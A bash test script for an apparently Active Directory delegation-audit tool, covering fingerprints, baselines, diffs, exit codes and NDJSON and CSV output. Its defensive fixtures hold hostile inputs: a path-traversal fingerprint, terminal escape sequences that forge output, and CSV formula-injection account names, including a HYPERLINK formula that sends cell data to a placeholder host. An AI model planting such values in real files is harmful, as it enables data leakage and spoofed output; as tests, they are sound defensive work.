#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Scheduled scans and SIEMs: fingerprints, baselines and kdeleg diff, --fail-on,
# --min-severity, NDJSON and CSV. Usage: test-siem.sh KDELEG SOURCE_ROOT
set -u
kdeleg=$1
top=$2
lab=$top/docs/examples/lab.ldif
. "$top/tests/check.sh"
check_init

# Variants of the lab snapshot: entries shuffled; an unrelated account added; one
# delegation removed and another added.
"$py" - "$lab" "$work" <<'PY'
import random, sys
text = open(sys.argv[1]).read()
entries = [e for e in text.strip("\n").split("\n\n")]
shuffled = entries[:]
random.Random(7).shuffle(shuffled)
open(sys.argv[2] + "/shuffled.ldif", "w").write("\n\n".join(shuffled) + "\n\n")
extra = ("dn: CN=newbie,CN=Users,DC=corp,DC=example\nobjectClass: user\n"
         "sAMAccountName: newbie\nobjectSid: S-1-5-21-3623811015-3361044348-30300820-9001\n"
         "userAccountControl: 512\n")
open(sys.argv[2] + "/unrelated.ldif", "w").write("\n\n".join(entries + [extra]) + "\n\n")
changed = []
for e in entries:
    if e.startswith("dn: CN=WEB01,"):  # drop its unconstrained delegation
        e = e.replace("userAccountControl: 528384", "userAccountControl: 4096")
        assert "4096" in e
    changed.append(e)
changed.append(extra.replace("userAccountControl: 512", "userAccountControl: 524800"))
open(sys.argv[2] + "/changed.ldif", "w").write("\n\n".join(changed) + "\n\n")
PY

# --- fingerprints: stable across runs, orderings and unrelated changes; unique ---
expect 0 "json run 1" -- audit --ldif "$lab" -f json -o "$work/r1.json"
expect 0 "json run 2" -- audit --ldif "$lab" -f json -o "$work/r2.json"
expect 0 "json shuffled" -- audit --ldif "$work/shuffled.ldif" -f json -o "$work/shuffled.json"
expect 0 "json unrelated change" -- audit --ldif "$work/unrelated.ldif" -f json -o "$work/unrelated.json"
pycheck "fingerprints" "$work" <<'PY'
import json, re, sys
w = sys.argv[1]
def fps(name):
    return [f["fingerprint"] for f in json.load(open(f"{w}/{name}.json"))["findings"]]
r1 = fps("r1")
assert all(re.fullmatch(r"[0-9a-f]{32}", f) for f in r1), r1
assert len(set(r1)) == len(r1), "fingerprints repeat within a run"
assert r1 == fps("r2"), "fingerprints differ between two runs"
assert sorted(r1) == sorted(fps("shuffled")), "entry order changed fingerprints"
assert sorted(r1) == sorted(fps("unrelated")), "an unrelated account changed fingerprints"
PY
expect 0 "text shows fingerprints" -- audit --ldif "$lab" --color never
fp=$("$py" -c 'import json,sys; print(json.load(open(sys.argv[1]))["findings"][0]["fingerprint"])' "$work/r1.json")
has out "id:  $fp" "text report carries the fingerprint"

# --- baselines ---
expect 0 "baseline of itself" -- audit --ldif "$lab" -f json --baseline "$work/r1.json" --fail-on new
pycheck "baseline of itself: nothing new, nothing resolved" "$work/out" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
assert {f["baseline"] for f in doc["findings"]} == {"unchanged"}
assert doc["resolved"] == [] and doc["baseline"]["new"] == 0
assert doc["baseline"]["unchanged"] == len(doc["findings"])
PY
expect 1 "changed snapshot --fail-on new" -- audit --ldif "$work/changed.ldif" -f json \
    --baseline "$work/r1.json" --fail-on new -o "$work/changed.json"
has err "1 finding not in the baseline" "--fail-on new names the count"
pycheck "changed snapshot: exactly the new and resolved findings" "$work/changed.json" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
new = [(f["rule"], f["account"]["name"]) for f in doc["findings"] if f["baseline"] == "new"]
gone = [(f["rule"], f["account"]["name"]) for f in doc["resolved"]]
assert new == [("unconstrained-delegation", "newbie")], new
assert gone == [("unconstrained-delegation", "WEB01$")], gone
assert doc["baseline"] == {"source": doc["baseline"]["source"], "new": 1,
                           "unchanged": len(doc["findings"]) - 1, "resolved": 1}
PY
expect 0 "text with a baseline" -- audit --ldif "$work/changed.ldif" --baseline "$work/r1.json" --color never
has out "\[new\]" "text marks new findings"
has out "RESOLVED since the baseline (1)" "text lists resolved findings"
has out "1 new, " "text header counts new findings"

expect 2 "--fail-on new without a baseline" -- audit --ldif "$lab" --fail-on new
echo '{"tool": {"name": "other"}}' >"$work/foreign.json"
expect 3 "a baseline that is not a kdeleg report" -- audit --ldif "$lab" --baseline "$work/foreign.json"
has err "foreign.json" "bad baseline names the file"
"$py" - "$work/r1.json" "$work/tampered.json" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
doc["findings"][3]["fingerprint"] = "../../etc"
json.dump(doc, open(sys.argv[2], "w"))
PY
expect 3 "a baseline with a malformed fingerprint" -- audit --ldif "$lab" --baseline "$work/tampered.json"
has err "finding 3" "malformed fingerprint names the finding"
sed 's/S-1-5-21-3623811015-3361044348-30300820"/S-1-5-21-1-2-3"/' "$work/r1.json" >"$work/otherdomain.json"
expect 3 "a baseline of another domain" -- audit --ldif "$lab" --baseline "$work/otherdomain.json"
has err "another\|of domain" "baseline of another domain"

# a baseline written with --min-severity recorded nothing below it: not "new" now
expect 0 "filtered baseline" -- audit --ldif "$lab" -f json --min-severity critical -o "$work/crit.json"
expect 0 "--fail-on new against a filtered baseline" -- audit --ldif "$lab" -f json \
    --baseline "$work/crit.json" --fail-on new
pycheck "filtered baseline: lower findings unmarked" "$work/out" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
marks = {(f["severity"], f.get("baseline")) for f in doc["findings"]}
assert marks == {("critical", "unchanged"), ("high", None), ("medium", None), ("low", None), ("info", None)}, marks
assert doc["baseline"]["new"] == 0 and doc["baseline"]["resolved"] == 0
PY
expect 0 "diff of two filters" -- diff "$work/crit.json" "$work/r1.json" -f json --fail-on new
has out '"unchanged": 5' "diff compares at the stricter filter"

# hostile baselines: strange but well-typed fields, bad types, one-sided domain SIDs
"$py" - "$work/r1.json" "$work" <<'PY'
import json, sys
w = sys.argv[2]
doc = json.load(open(sys.argv[1]))
sparse = dict(doc, findings=doc["findings"] + [{"rule": "x", "severity": "high", "fingerprint": "0" * 32}])
json.dump(sparse, open(w + "/sparse.json", "w"))
evil = json.loads(json.dumps(doc))
evil["findings"][0]["rule"] = "\u001b]0;PWNED\u0007\u001b[31mEVIL\nforged line"
evil["findings"][0]["fingerprint"] = "f" * 32
json.dump(evil, open(w + "/evil-rule.json", "w"))
typed = json.loads(json.dumps(doc)); typed["findings"][2]["account"] = "nobody"
json.dump(typed, open(w + "/typed.json", "w"))
sidnum = json.loads(json.dumps(doc)); sidnum["domain"]["sid"] = 5
json.dump(sidnum, open(w + "/sidnum.json", "w"))
nosid = json.loads(json.dumps(doc)); nosid["domain"]["sid"] = None
json.dump(nosid, open(w + "/nosid.json", "w"))
PY
expect 0 "ndjson with a sparse resolved finding" -- audit --ldif "$lab" -f ndjson --baseline "$work/sparse.json"
pycheck "sparse resolved finding as NDJSON" "$work/out" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
gone = [r for r in recs if r["kdeleg"].get("baseline", {}).get("status") == "resolved"]
assert len(gone) == 1 and gone[0]["rule"]["id"] == "x" and gone[0]["user"]["name"] is None
assert gone[0]["event"]["type"] == ["change"]
PY
expect 0 "diff with control characters in a rule" -- diff "$work/evil-rule.json" "$work/r1.json"
checks=$((checks + 1))
if grep -q $'\x1b' "$work/out" || grep -q "^forged line" "$work/out"; then
    fail "diff text passed control characters through"
fi
expect 3 "baseline account of the wrong type" -- audit --ldif "$lab" --baseline "$work/typed.json"
has err "finding 2" "wrong type names the finding"
expect 3 "baseline domain.sid of the wrong type" -- audit --ldif "$lab" --baseline "$work/sidnum.json"
expect 3 "baseline without a domain SID" -- audit --ldif "$lab" --baseline "$work/nosid.json"
has err "(none)" "one-sided domain SID"
expect 2 "usage errors come before the baseline is read" -- audit --ldif "$lab" -H ldap://x --baseline "$work/foreign.json"

# --- kdeleg diff ---
expect 0 "diff of a report with itself" -- diff "$work/r1.json" "$work/r2.json" --fail-on new
has out "0 new, 0 resolved" "diff of itself"
expect 1 "diff --fail-on new" -- diff "$work/r1.json" "$work/changed.json" -f json --fail-on new
pycheck "diff json" "$work/out" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
assert [f["account"]["name"] for f in doc["new"]] == ["newbie"]
assert [f["account"]["name"] for f in doc["resolved"]] == ["WEB01$"]
assert doc["counts"]["new"] == 1 and doc["counts"]["resolved"] == 1
assert doc["before"]["file"].endswith("r1.json") and doc["after"]["file"].endswith("changed.json")
PY
expect 0 "diff ndjson" -- diff "$work/r1.json" "$work/changed.json" -f ndjson
pycheck "diff ndjson: the audit's ECS records, then a summary" "$work/out" <<'PY'
import json, sys
*alerts, summary = [json.loads(l) for l in open(sys.argv[1])]
marks = [r["kdeleg"]["baseline"]["status"] for r in alerts]
assert marks == ["new", "resolved"], marks
assert [r["event"]["type"] for r in alerts] == [["info"], ["change"]]
assert all(r["rule"]["id"] == "unconstrained-delegation" and r["@timestamp"] for r in alerts)
assert [r["user"]["name"] for r in alerts] == ["newbie", "WEB01$"]
assert summary["event"]["dataset"] == "kdeleg.summary" and summary["kdeleg"]["complete"]
b = summary["kdeleg"]["baseline"]
assert (b["new"], b["resolved"]) == (1, 1) and b["source"].endswith("r1.json"), b
PY
expect 2 "diff with one file" -- diff "$work/r1.json"
expect 3 "diff of a missing file" -- diff "$work/r1.json" "$work/nope.json"
has err "nope.json" "diff names the missing file"

# --- exit policy and filtering ---
expect 0 "findings alone do not change the exit code" -- audit --ldif "$lab" -f json
expect 1 "--fail-on critical" -- audit --ldif "$lab" -f json --fail-on critical
has err "--fail-on critical: 5 findings" "--fail-on message"
"$py" -c 'import json,sys; json.load(open(sys.argv[1]))' "$work/out" || fail "--fail-on still writes the report"
expect 0 "--fail-on new with nothing new" -- audit --ldif "$work/unrelated.ldif" -f json --baseline "$work/r1.json" --fail-on new
expect 2 "--fail-on nonsense" -- audit --ldif "$lab" --fail-on severe
expect 2 "--min-severity nonsense" -- audit --ldif "$lab" --min-severity 7
expect 0 "--min-severity high" -- audit --ldif "$lab" -f json --min-severity high
pycheck "--min-severity" "$work/out" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1]))
assert {f["severity"] for f in doc["findings"]} == {"critical", "high"}
# issue 9: svc_legacy's protocol transition is low (no targets), old.admin's
# adminCount=1 is stale (info), machine-account-quota is medium
# issue 10: two critical delegation-chain findings, one medium
# issue 14: one finding per configuration folds the three one-hop chains, two
# constrained-delegation and two resource-based-delegation findings into others
assert doc["filter"] == {"min_severity": "high", "hidden": 13}, doc["filter"]
assert sum(doc["summary"].values()) == len(doc["findings"]) == 7
PY

# --- NDJSON: one self-contained record a line, then a summary ---
expect 0 "ndjson" -- audit --ldif "$lab" -f ndjson --baseline "$work/r1.json"
pycheck "ndjson records" "$work/out" "$work/r1.json" <<'PY'
import json, re, sys
lines = open(sys.argv[1]).read().split("\n")
assert lines[-1] == ""
records = [json.loads(l) for l in lines[:-1]]  # each line parses alone
saved = json.load(open(sys.argv[2]))["findings"]
*findings, summary = records
assert len(findings) == len(saved)
for r, s in zip(findings, saved):
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", r["@timestamp"])
    assert r["event"]["kind"] == "alert" and r["event"]["dataset"] == "kdeleg.finding"
    assert r["event"]["severity"] == ["info", "low", "medium", "high", "critical"].index(s["severity"]) + 1
    assert r["rule"]["id"] == s["rule"] and r["rule"]["name"] == s["title"]
    t = r["threat"]["technique"]
    assert set(t["id"]) == {a.split(".")[0] for a in s["attack"]}, t
    assert t["subtechnique"]["id"] == [a for a in s["attack"] if "." in a], t
    assert len(t["name"]) == len(t["reference"]) == len(t["id"])
    assert bool(r["threat"]["tactic"]["id"]) == bool(s["attack"])
    assert r["ecs"]["version"] == "8.11.0" and r["rule"]["reference"].startswith("https://")
    assert r["observer"]["version"] and r["observer"]["product"] == "kdeleg"
    k = r["kdeleg"]
    assert k["fingerprint"] == s["fingerprint"] and k["severity"] == s["severity"]
    assert k["account"] == s["account"] and k["details"] == s["details"]
    assert k["remediation"] == s["remediation"] and r["message"] == s["message"]
    assert k["domain"]["sid"] == "S-1-5-21-3623811015-3361044348-30300820"
    assert k["baseline"] == {"status": "unchanged", "source": sys.argv[2]}
    assert r["user"]["name"] == s["account"]["name"]
assert summary["event"]["dataset"] == "kdeleg.summary"
assert summary["kdeleg"]["complete"] is True
assert sum(summary["kdeleg"]["summary"].values()) == len(findings)
PY

# --- CSV: RFC 4180, formula injection neutralised ---
cat >"$work/evil.ldif" <<'LDIF'
dn: DC=corp,DC=example
objectClass: domain
objectSid: S-1-5-21-1-2-3

dn: CN=evil,CN=Users,DC=corp,DC=example
objectClass: user
sAMAccountName: =HYPERLINK("http://x/?"&A1,"click")
objectSid: S-1-5-21-1-2-3-1200
userAccountControl: 524800

dn: CN=+cmd,CN=Users,DC=corp,DC=example
objectClass: user
sAMAccountName: @SUM(1+1)
objectSid: S-1-5-21-1-2-3-1201
userAccountControl: 524800

dn: CN=-2+3,CN=Users,DC=corp,DC=example
objectClass: user
sAMAccountName:: LTIrMwlhYg0KYw==
objectSid: S-1-5-21-1-2-3-1202
userAccountControl: 524800

dn: CN=blank,CN=Users,DC=corp,DC=example
objectClass: user
sAMAccountName:: ICA9MSsx
objectSid: S-1-5-21-1-2-3-1203
userAccountControl: 524800

dn: CN=fullwidth,CN=Users,DC=corp,DC=example
objectClass: user
sAMAccountName: ＝1+1
objectSid: S-1-5-21-1-2-3-1204
userAccountControl: 524800

LDIF
expect 0 "csv" -- audit --ldif "$work/evil.ldif" -f csv
pycheck "csv cells" "$work/out" <<'PY'
import csv, sys
raw = open(sys.argv[1], newline="").read()
assert raw.endswith("\r\n")
rows = list(csv.reader(open(sys.argv[1], newline="")))
head, body = rows[0], rows[1:]
assert head[:3] == ["severity", "severity_number", "rule"] and head[-1] == "fingerprint"
assert len(body) == 5 and all(len(r) == len(head) for r in body)
for r in body:
    for cell in r:
        assert cell.lstrip(" \u00a0")[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"), cell
        assert "\n" not in cell and "\r" not in cell and "\t" not in cell, cell
names = sorted(r[head.index("account")] for r in body)
assert names == ["'  =1+1", "'-2+3\\tab\\x0d\\nc", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(1+1)", "'＝1+1"], names
PY

check_done siem
